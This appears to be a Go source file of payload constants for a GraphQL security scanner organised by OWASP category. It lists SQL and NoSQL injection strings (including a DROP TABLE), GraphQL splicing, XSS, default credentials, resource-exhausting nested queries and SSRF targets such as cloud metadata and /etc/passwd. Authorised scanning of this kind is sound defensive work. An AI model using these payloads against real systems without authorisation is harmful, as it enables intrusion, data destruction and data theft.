// Package probes contains the built-in weakness checks, one file per
// OWASP Top 10 category. Probes interpret target responses into
// findings; they never treat an expected rejection as a failure.
package probes

// Seeded object identifiers used to exercise the target's review and
// user resolvers.
const (
	seededOfferID    = "550e8400-e29b-41d4-a716-446655440001"
	seededReviewID   = "770e8400-e29b-41d4-a716-446655440001"
	foreignUserID    = "660e8400-e29b-41d4-a716-446655440999"
	trivialQuery     = "query { __typename }"
	invalidFieldQry  = "query { nonExistentField }"
	introspectionQry = `query IntrospectionQuery {
  __schema {
    queryType { name }
    mutationType { name }
    types { name }
  }
}`
)

const moderateReviewMutation = `mutation ModerateReview($reviewId: ID!, $status: ModerationStatus!) {
  moderateReview(reviewId: $reviewId, status: $status) {
    id
    moderationStatus
  }
}`

const userPrivateDataQuery = `query GetUserPrivateData($userId: ID!) {
  user(id: $userId) {
    id
    email
    phone
    address
    paymentMethods {
      id
      cardNumber
    }
  }
}`

const reviewByIDQuery = `query ReviewByID($id: ID!) {
  review(id: $id) {
    id
    rating
    text
  }
}`

const reviewWithAuthorQuery = `query ReviewWithAuthor($id: ID!) {
  review(id: $id) {
    id
    text
    author {
      email
      phone
    }
  }
}`

const reviewsFilterQuery = `query ReviewsByFilter($filter: ReviewsFilter) {
  reviews(filter: $filter, first: 10) {
    edges {
      node {
        id
        rating
      }
    }
  }
}`

const createReviewMutation = `mutation CreateReview($input: CreateReviewInput!) {
  createReview(input: $input) {
    id
    rating
    text
  }
}`

const changePasswordMutation = `mutation ChangePassword($oldPassword: String!, $newPassword: String!) {
  changePassword(oldPassword: $oldPassword, newPassword: $newPassword) {
    success
    message
  }
}`

const loginMutation = `mutation Login($username: String!, $password: String!) {
  login(username: $username, password: $password) {
    token
    user {
      id
      roles
    }
  }
}`

const updateProfileMutation = `mutation UpdateProfile($input: UpdateProfileInput!) {
  updateProfile(input: $input) {
    id
    avatarUrl
  }
}`

// deepNestedQuery cycles offers -> reviews -> author -> reviews far past
// any sane depth limit.
const deepNestedQuery = `query DeepQuery {
  offers(first: 1) {
    edges {
      node {
        reviews(first: 1) {
          edges {
            node {
              author {
                reviews(first: 1) {
                  edges {
                    node {
                      offer {
                        reviews(first: 1) {
                          edges {
                            node {
                              author {
                                reviews(first: 1) {
                                  edges {
                                    node {
                                      offer {
                                        reviews(first: 1) {
                                          edges {
                                            node {
                                              id
                                            }
                                          }
                                        }
                                      }
                                    }
                                  }
                                }
                              }
                            }
                          }
                        }
                      }
                    }
                  }
                }
              }
            }
          }
        }
      }
    }
  }
}`

// complexWideQuery fans out across offers, reviews, authors, and sellers
// with large page sizes to trip cost analysis.
const complexWideQuery = `query ComplexQuery {
  offers(first: 100) {
    edges {
      node {
        id
        title
        price
        description
        createdAt
        updatedAt
        reviews(first: 50) {
          edges {
            node {
              id
              rating
              text
              createdAt
              author {
                id
                name
                email
                reviews(first: 20) {
                  edges {
                    node {
                      id
                      rating
                    }
                  }
                }
              }
            }
          }
        }
        seller {
          id
          name
          email
          offers(first: 30) {
            edges {
              node {
                id
                title
                reviews(first: 10) {
                  edges {
                    node {
                      id
                    }
                  }
                }
              }
            }
          }
        }
      }
    }
  }
}`

// sqlInjectionPayloads are classic string-context injections plus a
// timing payload.
var sqlInjectionPayloads = []string{
	"' OR '1'='1",
	"'; DROP TABLE reviews; --",
	"' UNION SELECT * FROM users --",
	"1' OR 1=1 --",
	"'; SELECT pg_sleep(5); --",
}

// nosqlInjectionPayloads are operator objects smuggled through a filter
// argument.
var nosqlInjectionPayloads = []map[string]any{
	{"$ne": nil},
	{"$gt": ""},
	{"$regex": ".*"},
	{"$where": "1==1"},
}

// graphqlSplicePayloads attempt to break out of a quoted ID argument
// into sibling selections.
var graphqlSplicePayloads = []string{
	`") { id } user(id: "1`,
	`") { password } user(id: "1`,
	`") { __schema { types { name } } } user(id: "1`,
}

// xssPayloads probe whether review text is stored verbatim.
var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"javascript:alert('XSS')",
	"<img src=x onerror=alert('XSS')>",
	"';alert('XSS');//",
	"<svg onload=alert('XSS')>",
}

// defaultCredentials are the stock username/password pairs tried against
// the login mutation.
var defaultCredentials = [][2]string{
	{"admin", "admin"},
	{"admin", "password"},
	{"root", "root"},
	{"test", "test"},
}

// exposedEndpointPaths are development surfaces that should not answer
// in production.
var exposedEndpointPaths = []string{
	"/admin",
	"/debug",
	"/test",
	"/api/v1",
	"/graphiql",
	"/playground",
}

// ssrfPayloads target internal services, cloud metadata, and the local
// filesystem through a URL-typed profile field.
var ssrfPayloads = []string{
	"http://localhost:22",
	"http://127.0.0.1:3306",
	"http://169.254.169.254/latest/meta-data/",
	"file:///etc/passwd",
	"http://internal-service:8080",
}
